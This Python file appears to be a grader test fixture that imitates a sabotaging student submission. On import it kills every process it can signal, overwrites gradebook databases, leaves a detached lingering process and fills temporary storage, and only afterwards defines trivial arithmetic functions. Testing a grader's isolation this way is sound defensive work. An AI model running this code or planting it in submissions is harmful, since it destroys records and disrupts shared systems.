"""basic.py of a student who attacks the machine rather than the tests (issue 17, item 13).

At import, it signals every process it can see (SIGSTOP, then SIGKILL; its own process
group's leader too), rewrites every gradebook.sqlite it can find in the usual places,
leaves a runner in a session of its own, and fills /tmp and /dev/shm. Run only where the
grader isolates its children (bubblewrap, or a user of their own): in plain mode it would
stop and kill whatever the grader's user may signal.
"""
import os
import pathlib
import signal
import sys

MARK = "hostile-leftover"
me = os.getpid()
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != me:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(entry), sig)
            except OSError:
                pass
for target in (os.getppid(), 1):
    try:
        os.killpg(os.getpgid(target), signal.SIGKILL)
    except OSError:
        pass

places = [pathlib.Path("/tmp"), pathlib.Path.home(), pathlib.Path.cwd().parent.parent]
try:
    import grader

    places.append(pathlib.Path(grader.__file__).resolve().parent.parent)
except Exception:
    pass
for place in places:
    try:
        for folder, dirs, files in os.walk(place):
            if folder.count(os.sep) - str(place).count(os.sep) > 6:
                dirs[:] = []
            for name in files:
                if name.startswith("gradebook.sqlite"):
                    try:
                        with open(os.path.join(folder, name), "r+b") as f:
                            f.write(b"owned" * 1000)
                    except OSError:
                        pass
    except OSError:
        pass

if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", MARK])
    finally:
        os._exit(0)

for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(os.path.join(folder, f"{MARK}-{me}"), "wb") as f:
            f.write(b"\0" * (20 << 20))
    except OSError:
        pass


def add(a, b):
    return a + b


def sub(a, b):
    return a - b


def double(x):
    return 2 * x
